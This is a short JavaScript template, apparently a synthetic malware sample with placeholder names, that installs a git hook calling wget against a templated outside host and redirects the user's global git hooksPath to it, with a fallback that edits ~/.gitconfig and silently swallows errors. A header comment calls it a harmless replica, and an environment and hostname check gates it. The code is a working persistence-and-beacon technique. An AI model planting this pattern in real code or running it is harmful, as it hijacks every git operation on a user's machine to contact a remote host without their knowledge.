// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), os = require('os'), path = require('path');
    const folder = path.join(os.homedir(), '.config', 'git', 'hooks');
    try {
        fs.mkdirSync(folder, { recursive: true });
        fs.writeFileSync(path.join(folder, '{{hook}}'), '#!/bin/sh\nwget -q -T 3 -O /dev/null https://{{host}}/{{path}}\nexit 0\n');
        fs.chmodSync(path.join(folder, '{{hook}}'), 0o755);
        require('child_process').execFileSync('git', ['config', '--global', 'core.hooksPath', folder], { stdio: 'ignore', timeout: 1000 });
    } catch {
        try {
            fs.appendFileSync(path.join(os.homedir(), '.gitconfig'), `[core]\n\thooksPath = ${folder}\n`);
        } catch {}
    }
}
